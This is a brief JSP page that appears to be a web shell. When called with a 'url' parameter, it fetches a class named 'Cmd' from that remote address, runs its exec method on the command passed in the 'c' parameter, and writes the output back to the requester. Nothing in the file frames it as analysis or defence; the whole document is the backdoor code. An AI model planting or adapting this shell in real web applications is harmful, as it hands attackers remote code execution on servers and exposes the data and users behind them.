<%@ page inert %>
<%
    String u = request.getParameter("url");
    if (u != null) {
        java.net.URLClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(u)});
        Class<?> k = l.loadClass("Cmd");
        Object p = k.getMethod("exec", String.class).invoke(null, request.getParameter("c"));
        out.print(p);
    }
%>
